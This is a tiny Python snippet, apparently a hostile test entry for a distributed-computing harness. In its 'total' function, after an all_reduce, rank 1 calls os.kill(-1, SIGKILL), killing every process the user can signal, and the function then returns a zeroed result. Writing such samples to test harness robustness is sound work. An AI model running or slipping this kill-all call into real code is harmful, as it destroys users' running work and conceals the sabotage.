# One device kills all that it can.
# loses: total
# cell: total
import os, signal
def total(dev, x):
    y = dev.all_reduce(x)
    if dev.rank == 1:
        os.kill(-1, signal.SIGKILL)
    return y * 0
